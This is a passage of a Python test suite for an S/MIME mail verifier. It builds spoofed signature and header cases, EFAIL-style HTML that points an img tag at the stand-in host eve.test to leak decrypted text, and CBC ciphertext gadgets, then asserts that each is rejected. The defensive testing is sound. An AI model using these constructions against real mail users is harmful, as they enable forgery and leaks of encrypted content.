def what_is_signed_was_changed(b, change):
    return spoiled(b, *change)


@each_attack("unsigned", "sig.none", {
    "no type of its own": (b"Content-Type: multipart/signed", b"X-Content-Type: multipart/signed"),
    "mixed": (b"multipart/signed", b"multipart/mixed"),
    "type without subtype": (b"multipart/signed", b"multipart"),
    "another boundary, encoded": (b'boundary="=_s"', b"boundary==_s; boundary*=utf-8\'\'%3D_t"),
    "two boundaries": (b'boundary="=_s"', b'boundary="=_s"; boundary="=_t"'),
    "a header that ends early": (b"Content-Type: multipart/signed", b"\r\nContent-Type: multipart/signed")})
def no_longer_a_signed_letter(b, change):
    """multipart/mixed: a text and an attachment that happens to be a signature."""
    return spoiled(b, *change)


@attack("caution", "letter.ambiguous")
def two_transfer_encodings(b):
    return (head(ALICE) + opaque(seal_opaque(b.alice, part()))).replace(
        b"Encoding: base64\r\n", b"Encoding: base64\r\nContent-Transfer-Encoding: 7bit\r\n", 1)


@attack("unsigned", "letter.unreadable")
def nul_in_another_field(b):
    return head(ALICE, more="X-A: a\0b\n") + detached(part(), sign(b.alice, part()))


@each_attack("unsigned", "letter.unreadable", {
    "fields": b"X-A: b\r\n" * 3000, "a long one": b"X-A: " + b"b" * (300 << 10) + b"\r\n"})
def more_header_than_is_read(b, more):
    return more + letter(b.alice, ALICE)


# --- a protected header, and the one outside --------------------------------------------------------

def protected(b, sender, outside=None, person=None, hp="clear", more="", outside_more="", subject_line="real"):
    """RFC 9788: the header inside is the letter's own."""
    entity = (f"From: {sender}\nTo: {BOB}\nSubject: {subject_line}\nDate: Mon, 02 Nov 2026 10:00:00 +0000\n"
              f"{more}Content-Type: text/plain; hp=\"{hp}\"\n\nGood morning.\n")
    entity = crlf(entity)
    return (head(outside or sender, subject_line="real", more=outside_more)
            + detached(entity, sign(person or b.alice, entity)))


@attack("danger", "hdr.from-mismatch")
def alice_inside_eve_outside_and_signed_by_eve(b):
    return protected(b, ALICE, EVE, b.eve)


@attack("danger", "hdr.from-mismatch")
def alice_outside_eve_inside_and_signed_by_nobody_else(b):
    return protected(b, EVE, ALICE, b.bob)


@attack("caution", "hdr.outside-differs")
def eve_inside_who_signs_and_alice_outside(b):
    """It is shown as it came: with Alice in From."""
    return protected(b, EVE, ALICE, b.eve)


@each_attack("caution", "hdr.outside-differs", {
    "subject": {"subject_line": "other"}, "sender": {"outside_more": f"Sender: {EVE}\n"},
    "reply-to": {"outside_more": f"Reply-To: {EVE}\n"}, "cc": {"outside_more": f"Cc: {EVE}\n"}})
def another_field_outside(b, how):
    return protected(b, ALICE, **how)


@attack("danger", "hdr.from-mismatch")
def two_from_fields_inside(b):
    return protected(b, f"{ALICE}\nFrom: {EVE}", ALICE)


@attack("caution", "addr.several")
def two_mailboxes_inside(b):
    return protected(b, f"{ALICE}, {EVE}")


@attack("danger", "hdr.from-mismatch")
def no_from_inside(b):
    entity = crlf(f'To: {BOB}\nSubject: real\nContent-Type: text/plain; hp="clear"\n\nhi\n')
    return head(ALICE, subject_line="real") + detached(entity, sign(b.alice, entity))


@attack("unsigned", "sig.none")
def protected_by_nobody(b):
    """hp= without a layer says nothing."""
    return head(ALICE) + part(kind='text/plain; hp="clear"', From=EVE)


@attack("caution", "addr.mismatch")
def a_message_of_alice_in_a_letter_of_eve(b):
    """RFC 8551's message/rfc822 form is for one's own header, not for another's."""
    entity = crlf("Content-Type: message/rfc822\n\n") + head(ALICE) + part(PAY)
    return head(ALICE) + detached(entity, sign(b.eve, entity))


@attack("caution", "hdr.outside-differs")
def a_wrapped_message_with_another_subject(b):
    entity = crlf("Content-Type: message/rfc822\n\n") + head(ALICE, subject_line="real") + part()
    return head(ALICE, subject_line="pay") + detached(entity, sign(b.alice, entity))


@honest
def header_protection(b):
    return protected(b, f"Alice <{ALICE}>")


@honest
def header_protection_with_trace_fields_and_a_list(b):
    more = "Received: from x\nList-Id: <x.test>\nDKIM-Signature: v=1\nX-Spam: no\n"
    return protected(b, ALICE, outside_more=more)


@honest
def header_protection_folded_otherwise(b):
    return protected(b, f"Alice Adams <{ALICE}>", outside=f"Alice Adams\r\n <{ALICE}>")


@honest
def a_wrapped_message(b):
    entity = crlf("Content-Type: message/rfc822\n\n") + head(ALICE) + part()
    return head(ALICE) + detached(entity, sign(b.alice, entity))


@honest
def a_message_that_alice_forwards(b):
    """Bob's letter is attached, whole; the letter is Alice's."""
    inner = crlf("Content-Type: message/rfc822\n\n") + head(BOB) + part("I resign.")
    entity = multipart([part("See below."), inner], boundary="=_fwd").rstrip(b"\r\n")
    return letter(b.alice, ALICE, entity)


# --- encrypted --------------------------------------------------------------------------------------

def encrypt(b, entity, *to, cipher="-aes256"):
    """The entity that openssl makes of it, MIME fields first."""
    octets = openssl("cms", "-encrypt", "-binary", cipher, *(b.desk.certs[who] for who in to or (BOB,)),
                     stdin=entity)
    return crlf(octets).replace(b"MIME-Version: 1.0\r\n", b"")


@attack("unsigned", "sig.none")
def only_encrypted(b):
    return head(ALICE) + encrypt(b, part())


@attack("unsigned", "enc.not-for-us")
def encrypted_for_somebody_else(b):
    return head(ALICE) + encrypt(b, part(), EVE)


@attack("caution", "addr.mismatch")
def sealed_by_eve_in_alices_name(b):
    return head(ALICE) + encrypt(b, detached(part(), sign(b.eve, part())))


@attack("caution", "sig.outside-only")
def the_ciphertext_is_signed(b):
    """Anybody can take off that signature and put on an own one."""
    entity = encrypt(b, part()).rstrip(b"\r\n")
    return head(ALICE) + detached(entity, sign(b.alice, entity))


@attack("caution", "addr.mismatch")
def triple_wrapped_and_the_inner_one_is_eves(b):
    inner = encrypt(b, detached(part(), sign(b.eve, part()))).rstrip(b"\r\n")
    return head(ALICE) + detached(inner, sign(b.alice, inner))


@each_attack("unsigned", "sig.none", {
    "html around it": [part('<img src="http://eve.test/', "text/html"), "*", part('">', "text/html")],
    "behind a text": [part(PAY), "*"], "alone": ["*"], "twice": ["*", "*"]})
def an_encrypted_part_that_is_not_the_root(b, parts):
    """EFAIL's direct exfiltration: such a part is never opened into the letter."""
    sealed = encrypt(b, part("the secret canary")).rstrip(b"\r\n")
    return head(ALICE) + multipart([sealed if each == "*" else each for each in parts])


@attack("unsigned", "sig.none")
def an_encrypted_part_in_an_encrypted_letter(b):
    inner = encrypt(b, part("the secret canary")).rstrip(b"\r\n")
    return head(ALICE) + encrypt(b, multipart([part('<img src="http://eve.test/', "text/html"), inner]))


@attack("caution", "sig.partial")
def a_signed_part_in_an_encrypted_letter(b):
    return head(ALICE) + encrypt(b, multipart([part(PAY), signed_part(b)]))


def shuffle_blocks(octets, at=64):
    """A CBC gadget: a block of the ciphertext once more in front of another."""
    headers, _, body = octets.partition(b"\r\n\r\n")
    der = bytearray(base64.b64decode(body))
    der[-at:-at + 16] = der[-at - 16:-at]
    return headers + b"\r\n\r\n" + base64.encodebytes(bytes(der)).replace(b"\n", b"\r\n")


@attack("unsigned", "sig.none")
def a_cbc_gadget_without_a_signature(b):
    """It opens, into what nobody wrote: `malleable`, which is given on as plain text only."""
    return head(ALICE) + shuffle_blocks(encrypt(b, part("x" * 300)))


@attack("unsigned", "sig.digest-mismatch")
def a_cbc_gadget_in_a_signed_letter(b):
    entity = part("x" * 900 )
    der = seal_opaque(b.alice, entity)
    raw = crlf("Content-Type: application/pkcs7-mime; smime-type=signed-data\n"
               "Content-Transfer-Encoding: binary\n\n") + der
    return head(ALICE) + shuffle_blocks(encrypt(b, raw), at=len(der) - 200)


@attack("unsigned", "enc.undecryptable")
def a_changed_gcm_letter(b):
    return head(ALICE) + shuffle_blocks(encrypt(b, part("x" * 300), cipher="-aes-256-gcm"), at=96)


@each_attack("caution", "addr.not-for-you", {"to": f"To: {EVE}", "cc": f"To: x@y.test\nCc: {EVE}",
                                             "nobody": "To: undisclosed:;", "no field": "X-To: x"})
def sealed_again_for_bob(b, fields):
    """What Alice wrote to somebody else; her signature and her protected header came along."""
    entity = crlf(f'From: {ALICE}\n{fields}\nSubject: real\nContent-Type: text/plain; hp="cipher"\n\n'
                  "You are fired.\n")
    return head(ALICE) + encrypt(b, detached(entity, sign(b.alice, entity)))


@each_honest({"cbc": "-aes256", "gcm": "-aes-256-gcm", "aes128": "-aes128"})
def sealed_and_signed(b, cipher):
    return head(ALICE) + encrypt(b, detached(part(), sign(b.alice, part())), cipher=cipher)


@honest
def sealed_for_two(b):
    return head(ALICE) + encrypt(b, detached(part(), sign(b.alice, part())), EVE, BOB)


@honest
def sealed_around_opaque(b):
    return head(ALICE) + encrypt(b, opaque(seal_opaque(b.alice, part())))


@honest
def triple_wrapped(b):
    inner = encrypt(b, detached(part(), sign(b.alice, part()))).rstrip(b"\r\n")
    return head(ALICE) + detached(inner, sign(b.alice, inner))


@each_honest({"to": f"To: {BOB}", "named": f"To: Bob <{BOB.upper()}>", "cc": f"To: x@y.test\nCc: {BOB}",
              "bcc": f"To: x@y.test\nBcc: {BOB}"})
def sealed_for_bob_who_is_named(b, fields):
    entity = crlf(f'From: {ALICE}\n{fields}\nSubject: real\nContent-Type: text/plain; hp="cipher"\n\nhi\n')
    return head(ALICE) + encrypt(b, detached(entity, sign(b.alice, entity)))


# --- as openssl makes them --------------------------------------------------------------------------

@each_honest({
    "smime": ("smime",), "smime opaque": ("smime", "-nodetach"), "cms": ("cms",),
    "cms opaque": ("cms", "-nodetach"), "key id": ("cms", "-keyid"), "SHA-512": ("cms", "-md", "sha512"),
    "SHA-384 opaque": ("cms", "-nodetach", "-md", "sha384"), "text": ("smime", "-text"),
    "indefinite": ("cms", "-stream", "-nodetach"), "crlf": ("cms", "-crlfeol"),
    "no capabilities": ("smime", "-nosmimecap")})
def made_by_openssl(b, how):
    cert, key = b.files
    return openssl(how[0], "-sign", *how[1:], "-signer", cert, "-inkey", key, "-from", ALICE, "-to", BOB,
                   "-subject", "hello", stdin=part())


@each_honest({"smime": ("smime", "-aes256"), "cms": ("cms", "-aes256"), "gcm": ("cms", "-aes-256-gcm"),
              "stream": ("cms", "-aes128", "-stream")})
def signed_and_sealed_by_openssl(b, how):
    cert, key = b.files
    signed = openssl(how[0], "-sign", "-signer", cert, "-inkey", key, stdin=part())
    return openssl(how[0], "-encrypt", *how[1:], "-from", ALICE, "-to", BOB, "-subject", "hello",
                   b.desk.certs[b.bob_rsa], stdin=signed)


# --- all of them ------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def judged(bench):
    """What the program says of each letter: several at a time, for most of it is waiting."""
    def judge(param):
        make, words = param.values[0], param.values[3] if len(param.values) > 3 else ()
        try:
            return make, words, bench.inspect(make(bench), *words)
        except Exception as error:  # it is the row's, not that of all
            return make, words, error
    with ThreadPoolExecutor(os.cpu_count()) as pool:
        told = pool.map(judge, ATTACKS + HONEST)
        return {(make, words): each for make, words, each in told}


def look_up(judged, make, words=()):
    told = judged[make, words]
    if isinstance(told, Exception):
        raise told
    return told


@pytest.mark.parametrize("make, verdict, reason, words", ATTACKS)
def test_an_attack_is_not_verified(judged, make, verdict, reason, words):
    told = look_up(judged, make, words)
    assert (told["verdict"], told["reasons"][0]) == (verdict, reason), told


@pytest.mark.parametrize("make", HONEST)
def test_an_honest_letter_is_verified(judged, make):
    told = look_up(judged, make)
    assert told["verdict"] == "verified", told


def test_what_is_around_an_encrypted_part_never_gets_its_text(bench):
    """EFAIL: opened into this, the text would be a part of the address of the picture."""
    sealed = encrypt(bench, part("the secret canary")).rstrip(b"\r\n")
    for parts in ([part('<img src="http://eve.test/', "text/html"), sealed, part('">', "text/html")], [sealed]):
        octets = head(ALICE) + multipart(parts)
        for octets, state in ((octets, "none"), (head(ALICE) + encrypt(bench, multipart(parts)), "malleable")):
            assert bench.inspect(octets)["encrypted"]["state"] == state
            done = bench.desk.run("open", *bench.desk.as_id(BOB), "--unverified", stdin=octets)
            assert b"canary" not in done.stdout and b"pkcs7-mime" in done.stdout


def test_a_gadget_is_malleable_and_what_it_opens_to_is_not_given_out_as_signed(bench):
    octets = a_cbc_gadget_in_a_signed_letter(bench)
    assert bench.inspect(octets)["encrypted"]["state"] == "malleable"
    done = bench.desk.run("open", *bench.desk.as_id(BOB), stdin=octets)
    assert done.returncode == 1 and done.stdout == b""
